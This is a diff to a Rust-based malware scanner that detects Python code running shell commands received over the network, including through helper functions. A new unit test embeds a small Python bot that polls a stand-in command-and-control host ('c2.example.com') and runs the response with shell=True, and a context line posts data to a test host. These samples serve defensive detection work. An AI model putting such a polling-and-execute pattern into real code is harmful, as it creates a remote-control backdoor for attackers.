@@ -443,6 +443,10 @@ struct Py<'t> {
     written: RefCell<Vec<Written>>,
     /// `module.Class.method = function` assignments: (the assignment, the function's name).
     patches: Vec<(Node<'t>, String)>,
+    /// Commands a function runs that are one of its parameters (`def run(c):
+    /// subprocess.run(c, shell=True)`): (function name, parameter index not counting
+    /// `self`, line, scope, snippet). Decided by what its callers pass.
+    param_commands: RefCell<Vec<(String, usize, u32, Scope, String)>>,
 }
 
 /// Text one function writes through one file handle.
@@ -700,6 +704,7 @@ impl<'t> Py<'t> {
             visits: Vec::new(),
             written: RefCell::new(Vec::new()),
             patches: Vec::new(),
+            param_commands: RefCell::new(Vec::new()),
         };
         let mut top_calls: Vec<String> = Vec::new();
         // Names called (not merely passed) at the top level: a class passed as an
@@ -1078,6 +1083,37 @@ impl<'t> Py<'t> {
             fid = self.parent_fn(f.start_byte(), f.end_byte());
         }
         self.assigns.get(&(0, name.to_string()))
+    }
+
+    /// When `n` is a parameter of the named function enclosing it: (function name,
+    /// parameter index not counting a leading `self`). Parameters that are reassigned
+    /// inside the function are not followed.
+    fn param_of(&self, n: Node<'t>) -> Option<(String, usize)> {
+        if kind(n) != "identifier" {
+            return None;
+        }
+        let name = text(n, self.src);
+        let f = self.funcs_by_id.get(&self.enclosing_fn(n))?;
+        if self.assigns.contains_key(&(f.id(), name.to_string())) {
+            return None;
+        }
+        let fname = text(f.child_by_field_id(field!("name"))?, self.src).to_string();
+        let params = f.child_by_field_id(field!("parameters"))?;
+        let mut c = params.walk();
+        let names: Vec<&str> = params
+            .named_children(&mut c)
+            .map(|p| {
+                let id = match kind(p) {
+                    "identifier" => Some(p),
+                    "typed_parameter" => p.named_child(0),
+                    _ => p.child_by_field_id(field!("name")),
+                };
+                id.map_or("", |x| text(x, self.src))
+            })
+            .collect();
+        let skip = usize::from(names.first() == Some(&"self"));
+        let i = names.iter().position(|p| *p == name)?;
+        (i >= skip).then(|| (fname, i - skip))
     }
 
     /// The assignment of `name` that reaches its use `n`: the latest one ending
@@ -2071,6 +2107,38 @@ impl<'t> Py<'t> {
                 _ => {}
             }
         }
+        // A helper that runs its parameter as a command, called with what the network
+        // sent (`runcommand(requests.get(c2).text)`): a command received and run.
+        for (fname, idx, line, scope, snip) in self.param_commands.take() {
+            let received = self.visits.iter().any(|v| {
+                kind(v.node) == "call"
+                    && v.node
+                        .child_by_field_id(field!("function"))
+                        .is_some_and(|f| {
+                            let t = text(f, src);
+                            t == fname || t == format!("self.{fname}")
+                        })
+                    && v.node
+                        .child_by_field_id(field!("arguments"))
+                        .and_then(|a| a.named_child(idx as u32))
+                        .is_some_and(|a| {
+                            kind(a) != "keyword_argument"
+                                && self.origin(a, 0) & (DOWNLOADED | SOCKDATA) != 0
+                        })
+            });
+            if received {
+                let msg = format!("runs a command received from the network (through `{fname}`)");
+                push(
+                    sink,
+                    ctx,
+                    "CMD-DECODED",
+                    line,
+                    &snip,
+                    msg,
+                    Some(scope.undiscounted(ctx.top)),
+                );
+            }
+        }
         // A library function replaced by one of this file's that sends data: a hook that
         // steals what the library is given (keys handed to a wallet or exchange client).
         for (assign, func) in &self.patches {
@@ -2468,7 +2536,19 @@ impl<'t> Py<'t> {
                     Some(scope),
                 );
             }
-            if o & (DECODED | DOWNLOADED | OBF) != 0 {
+            if o & DOWNLOADED != 0 {
+                // What to run, chosen by whoever answers: no benign reading, so a
+                // function body weighs like the top level (like code fetched and run).
+                push(
+                    sink,
+                    ctx,
+                    "CMD-DECODED",
+                    line,
+                    snip,
+                    "runs a command received from the network".into(),
+                    Some(scope.undiscounted(ctx.top)),
+                );
+            } else if o & (DECODED | OBF) != 0 {
                 push(
                     sink,
                     ctx,
@@ -2478,6 +2558,12 @@ impl<'t> Py<'t> {
                     "runs a command that is decoded or downloaded at run time".into(),
                     Some(scope),
                 );
+            } else if let Some(c) = cmd_node
+                && let Some((fname, idx)) = self.param_of(c)
+            {
+                self.param_commands
+                    .borrow_mut()
+                    .push((fname, idx, line, scope, snippet(snip)));
             }
             if o & SOCKDATA != 0 {
                 push(
@@ -4140,6 +4226,28 @@ requests.post('http://x.test/a', json={'k': c})
             f.map(|f| (f.stage, f.factor)),
             Some((Some(Stage::Runtime), 1.0))
         );
+    }
+
+    #[test]
+    fn a_command_received_over_http_is_run_even_through_a_helper() {
+        let c2 = |call: &str| {
+            format!(
+                "import subprocess, requests\ndef runcommand(value):\n    return subprocess.run(value, shell=True, capture_output=True)\nclass Bot:\n    def go(self, v):\n        subprocess.call(v, shell=True)\n    def poll(self):\n        while True:\n            resp = requests.get('https://c2.example.com/').text\n            {call}\n"
+            )
+        };
+        let received = |call: &str| {
+            let s = run(&c2(call));
+            s.findings
+                .iter()
+                .find(|f| f.rule == "CMD-DECODED")
+                .map(|f| (f.line, f.factor))
+        };
+        // Reported where the command runs, weighing like the top level.
+        assert_eq!(received("runcommand(resp)"), Some((3, 1.0)));
+        assert_eq!(received("self.go(resp)"), Some((6, 1.0)));
+        // A helper given a fixed command, or the response as another argument, is not.
+        assert_eq!(received("runcommand('git status')"), None);
+        assert_eq!(received("runcommand('ls', resp)"), None);
     }
 
     #[test]
